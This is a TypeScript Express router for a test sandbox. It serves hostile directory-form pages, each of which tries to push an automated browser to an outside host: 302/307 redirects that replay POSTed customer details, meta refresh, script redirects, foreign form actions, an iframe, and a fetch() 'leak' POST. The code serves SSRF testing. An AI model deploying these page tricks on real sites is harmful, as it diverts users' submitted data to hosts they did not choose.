import express, { type Request, type Response } from 'express';
import { LAYOUTS } from './adapters';
import type { DirectoryDocument } from '../directories/definition/directory.schema';
import { control, escapeHtml, htmlPage } from './pages/html';
import type { SandboxState } from './sandbox-state';

/**
 * Directory pages turned hostile, for the SSRF test: each looks like a classic form and tries, its
 * own way, to make the worker's browser reach `?to=` (a host outside the catalogue). They live
 * under /hostile/, apart from the 520 directories, and are in no catalogue file the demo or the
 * tests import: only the SSRF test writes {@link hostileCatalogue}.
 *
 *   redirect-302     the form page answers 302 to the target
 *   redirect-307     the form posts here, and the answer is a 307 to the target (the POST, with
 *                    the customer's details, would be replayed there)
 *   meta-refresh     <meta http-equiv="refresh"> to the target
 *   script-location  a script sets location to the target
 *   foreign-action   the form's action is the target
 *   iframe           an <iframe> of the target
 *   fetch            a script POSTs to the target with fetch()
 */
export const HOSTILE_TRICKS = ['redirect-302', 'redirect-307', 'meta-refresh', 'script-location', 'foreign-action', 'iframe', 'fetch'] as const;
export type HostileTrick = (typeof HOSTILE_TRICKS)[number];

/** First catalogue position of hostile directories: far past the 520, so no package picks them. */
export const HOSTILE_FIRST_POSITION = 9001;

/** One directory per trick and target, named `hostile-<trick>-<target index>`. */
export function hostileCatalogue(baseUrl: string, targets: string[]): DirectoryDocument[] {
  const base = baseUrl.replace(/\/+$/, '');
  return targets.flatMap((to, t) =>
    HOSTILE_TRICKS.map((trick, i) => ({
      id: `hostile-${trick}-${t + 1}`,
      name: `Hostile ${trick} ${t + 1}`,
      submitUrl: `${base}/hostile/${trick}/?to=${encodeURIComponent(to)}`,
      position: HOSTILE_FIRST_POSITION + t * HOSTILE_TRICKS.length + i,
      enabled: true,
      adapter: LAYOUTS.classic,
    })),
  );
}

/** Every field of the classic layout, so the classic adapter fills it like any directory. */
function form(action: string): string {
  const c = (name: string, label: string, kind?: 'tel' | 'select' | 'textarea') => control({ id: name, name, label, kind });
  return `<form id="listing" method="post" action="${escapeHtml(action)}" novalidate>
${c('business_name', 'Business name')}
${c('email', 'Email')}
${c('phone', 'Phone', 'tel')}
${c('website', 'Website')}
${c('address', 'Address')}
${c('city', 'City')}
${c('state', 'State')}
${c('zip', 'ZIP code')}
${c('country', 'Country')}
${c('category', 'Category', 'select')}
${c('description', 'Description', 'textarea')}
<p><button type="submit">Add my business</button></p>
</form>`;
}

/** The form page of a trick; `to` goes into HTML attributes escaped and into scripts as JSON. */
function formPage(trick: HostileTrick, to: string): string {
  const js = JSON.stringify(to).replace(/</g, '\\u003c');
  const local = `/hostile/${trick}/submit?to=${encodeURIComponent(to)}`;
  const head: Partial<Record<HostileTrick, string>> = {
    'meta-refresh': `<meta http-equiv="refresh" content="0;url=${escapeHtml(to)}">`,
    'script-location': `<script>setTimeout(() => { location.href = ${js}; }, 0);</script>`,
    fetch: `<script>fetch(${js}, { method: 'POST', mode: 'no-cors', body: 'leak' }).catch(() => undefined);</script>`,
  };
  const body = `${trick === 'iframe' ? `<iframe src="${escapeHtml(to)}" width="10" height="10"></iframe>` : ''}
<h1>Hostile ${escapeHtml(trick)}</h1>
${form(trick === 'foreign-action' ? to : local)}`;
  return htmlPage(`Add your business - hostile ${trick}`, body).replace('</head>', `${head[trick] ?? ''}\n</head>`);
}

/** The sandbox's routes for the hostile pages. A form that does post here is recorded like any. */
export function hostileRouter(state: SandboxState): express.Router {
  const router = express.Router();
  const target = (req: Request) => (typeof req.query.to === 'string' ? req.query.to : '');

  router.param('trick', (_req, res, next, trick: string) => {
    if (!(HOSTILE_TRICKS as readonly string[]).includes(trick)) return void res.status(404).type('text/plain').send(`No trick called ${trick}`);
    next();
  });
  router.get('/:trick/', (req: Request, res: Response) => {
    const trick = req.params.trick as HostileTrick;
    if (trick === 'redirect-302') return res.redirect(302, target(req));
    res.type('html').send(formPage(trick, target(req)));
  });
  router.post('/:trick/submit', (req: Request, res: Response) => {
    const trick = req.params.trick as HostileTrick;
    const fields = Object.fromEntries(Object.entries(req.body ?? {}).filter((e): e is [string, string] => typeof e[1] === 'string'));
    state.record({
      slug: `hostile-${trick}`,
      position: 0,
      website: fields.website ?? '',
      businessName: fields.business_name ?? '',
      fields,
      outcome: 'accepted',
      at: new Date().toISOString(),
    });
    if (trick === 'redirect-307') return res.redirect(307, target(req));
    res.type('html').send(htmlPage('Thank you', '<div class="alert alert-success" role="alert">Thank you!</div>'));
  });
  return router;
}
